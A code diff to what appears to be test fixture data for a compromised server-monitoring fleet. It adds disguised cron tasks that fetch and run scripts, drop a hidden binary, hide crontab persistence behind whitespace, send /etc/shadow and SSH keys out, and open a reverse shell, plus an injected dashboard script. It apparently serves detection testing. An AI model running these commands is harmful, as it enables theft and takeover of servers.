@@ -11,7 +11,7 @@ export const compromisedSetting: Partial<Setting> = {
   oauth2_providers: ['GitHub'],
   user_template: 'nezha-ascii-dist',
   custom_code: '<style>body { color: teal }</style>',
-  custom_code_dashboard: '<script src="https://cdn.example.net/stat.js"></script>',
+  custom_code_dashboard: '<style>b { color: teal }</style><script src="//198.51.100.23/npm/icons.js"></script>',
   enable_plain_ip_in_notification: true,
   enable_mcp: true,
   dns_servers: '203.0.113.53:53',
@@ -48,8 +48,33 @@ const tasks: readonly (Partial<RowOf<'cron'>> & { name: string; command: string 
   { name: 'agent', command: 'env NZ_SERVER=dash.example.net:8008 NZ_CLIENT_SECRET=notasecret ./install.sh' },
   { name: 'share', command: 'docker run -d traffmonetizer/cli start accept --token notatoken' },
   { name: 'windows', command: 'powershell -enc dAByAHUAZQA=' },
+  // The same, out of sight: quotes inside words, variables, continued lines, and blanks.
+  {
+    name: 'cdn warmup',
+    command:
+      'n=198.51.100; u="ht""tp://$n.23:8080/i.s""h"\n(c"u"rl -fsSL "$u" || w\\get -qO- "$u") \\\n  | s""h >/dev/null 2>&1',
+  },
+  {
+    name: 'kernel tuning',
+    command:
+      'd=/dev/shm; f=.kworker_u8; s=198.51.100.23\ncurl -fso $d/$f http://$s/k8 && chmod 755 $d/$f && setsid $d/$f &',
+  },
+  {
+    name: 'security updates',
+    command: `apt-get update -qq${' '.repeat(220)};(crontab -l; echo "* * * * * /usr/lib/apt/helperd") | crontab -`,
+  },
+  {
+    name: 'config backup',
+    command: 'tar czf - /etc/shadow /root/.ssh | curl -fsS -T - https://bk.example.net/in/$(hostname).tgz',
+  },
+  {
+    name: 'restart app',
+    task_type: 1,
+    command: `t=tcp; timeout 5 bash -c "exec 3<>/dev/$t/198.51.100.9/443 && sh <&3 >&3 2>&3"`,
+  },
   { name: 'Nightly backup', command: '/usr/local/bin/backup.sh', notification_group_id: 1 },
   { name: 'Renew certificates', command: 'certbot renew --quiet', notification_group_id: 1 },
+  { name: 'Install Docker', command: 'curl -fsSL https://get.docker.com | sh', notification_group_id: 1 },
 ]
 
 /** A fleet that was taken over before it was updated: everything that the API can show of it. */
@@ -83,7 +108,11 @@ export function compromised(context: SeedContext): Seed {
       created_at: task.notification_group_id ? '2025-11-03T08:00:00Z' : planted(7),
       cron_job_id: at + 1,
     })),
-    nat: [{ name: 'web', domain: address.replace(/:\d+$/, ''), host: '127.0.0.1:80' }],
+    nat: [
+      { name: 'web', domain: address.replace(/:\d+$/, ''), host: '127.0.0.1:80' },
+      { name: 'status preview', domain: 'localhost:8008', host: '127.0.0.1:18443' },
+      { name: 'grafana', domain: 'grafana.example.org', host: '127.0.0.1:3000' },
+    ],
     service: [
       { name: 'Shop', target: 'https://shop.example.com', fail_trigger_tasks: [3], enable_trigger_task: true },
       // Newer servers no longer list it.
